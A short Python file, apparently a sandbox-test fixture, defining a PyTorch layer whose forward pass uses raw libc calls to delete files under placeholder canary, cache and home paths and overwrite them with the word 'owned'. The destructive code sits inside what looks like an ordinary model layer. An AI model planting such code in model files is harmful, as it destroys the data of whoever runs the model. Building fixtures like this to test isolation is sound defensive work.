import ctypes

from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)


class Block(nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = nn.Linear(4, 4)

    def forward(self, x):
        for path in (b"@CANARY@/keep.txt", b"@CACHE@", b"@HOME@/keep.txt"):
            LIBC.unlink(path)
            fd = LIBC.open(path, 0o1101, 0o644)  # O_WRONLY | O_CREAT | O_TRUNC
            if fd >= 0:
                LIBC.write(fd, b"owned", 5)
                LIBC.close(fd)
        LIBC.open(b"@CANARY@/new.txt", 0o101, 0o644)  # O_WRONLY | O_CREAT
        return self.lin(x)
